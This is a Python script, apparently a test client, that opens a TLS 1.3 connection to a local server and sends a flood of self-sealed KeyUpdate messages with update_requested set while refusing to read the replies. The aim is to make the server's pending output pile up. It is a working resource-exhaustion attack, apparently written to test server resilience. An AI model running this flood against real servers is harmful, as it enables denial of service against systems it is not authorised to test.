#!/usr/bin/env python3
"""A TLS 1.3 client that asks for a response, reads it, then sends KeyUpdate messages with
update_requested (each makes the server send a KeyUpdate of its own) and never reads again: what
the server writes back piles up on its side. Records are sealed here with the traffic secrets from
the handshake's key log, since Python's ssl module cannot send KeyUpdate.
  keyupdate_flood.py PORT NAME COUNT HOLD_SECONDS
Prints "sent N of COUNT" (fewer when the server stopped reading and a send waited 5 s), then keeps
the connection open HOLD_SECONDS, then prints "done".
"""
import hashlib
import hmac
import os
import socket
import ssl
import struct
import sys
import tempfile
import time

from cryptography.hazmat.primitives.ciphers.aead import AESGCM, ChaCha20Poly1305

port, name, count, hold = int(sys.argv[1]), sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
keylog = tempfile.NamedTemporaryFile(prefix="keylog.", delete=False).name
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
ctx.minimum_version = ssl.TLSVersion.TLSv1_3
ctx.keylog_filename = keylog
sock = socket.socket()
# A small receive window: the server's answers stay on its side rather than in this socket.
sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
sock.settimeout(5)
sock.connect(("127.0.0.1", port))
inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
obj = ctx.wrap_bio(inc, out, server_hostname=name)


def pump():
    d = out.read()
    if d:
        sock.sendall(d)


while True:
    try:
        obj.do_handshake()
        break
    except ssl.SSLWantReadError:
        pump()
        inc.write(sock.recv(65536))
obj.write(b"GET / HTTP/1.1\r\nHost: %s\r\n\r\n" % name.encode())
pump()
got = b""
while b"\r\n\r\n" not in got:
    try:
        got += obj.read(65536)
    except ssl.SSLWantReadError:
        inc.write(sock.recv(65536))
cipher = obj.cipher()[0]
secret = None
with open(keylog) as f:
    for line in f:
        p = line.split()
        if p[0] == "CLIENT_TRAFFIC_SECRET_0":
            secret = bytes.fromhex(p[2])
os.unlink(keylog)
H = hashlib.sha384 if "SHA384" in cipher else hashlib.sha256


def expand_label(secret, label, length):
    full = b"tls13 " + label
    info = struct.pack(">H", length) + bytes([len(full)]) + full + b"\x00"
    t, okm, i = b"", b"", 1
    while len(okm) < length:
        t = hmac.new(secret, t + info + bytes([i]), H).digest()
        okm += t
        i += 1
    return okm[:length]


def sealer(secret):
    klen = 32 if ("AES_256" in cipher or "CHACHA" in cipher) else 16
    key = expand_label(secret, b"key", klen)
    return (ChaCha20Poly1305(key) if "CHACHA" in cipher else AESGCM(key)), expand_label(secret, b"iv", 12)


# The request went out as the first record under this secret.
aead, iv = sealer(secret)
seq = 1
KEY_UPDATE = b"\x18\x00\x00\x01\x01"  # KeyUpdate, update_requested
sent, batch = 0, []
try:
    for i in range(count):
        inner = KEY_UPDATE + b"\x16"
        hdr = b"\x17\x03\x03" + struct.pack(">H", len(inner) + 16)
        nonce = bytes(a ^ b for a, b in zip(iv, seq.to_bytes(12, "big")))
        batch.append(hdr + aead.encrypt(nonce, inner, hdr))
        # After its KeyUpdate the sender moves to the next traffic secret, sequence 0.
        secret = expand_label(secret, b"traffic upd", H().digest_size)
        aead, iv = sealer(secret)
        seq = 0
        if len(batch) == 1000:
            sock.sendall(b"".join(batch))
            sent += len(batch)
            batch = []
    sock.sendall(b"".join(batch))
    sent += len(batch)
except (socket.timeout, OSError):
    pass
print(f"sent {sent} of {count}", flush=True)
time.sleep(hold)
print("done", flush=True)
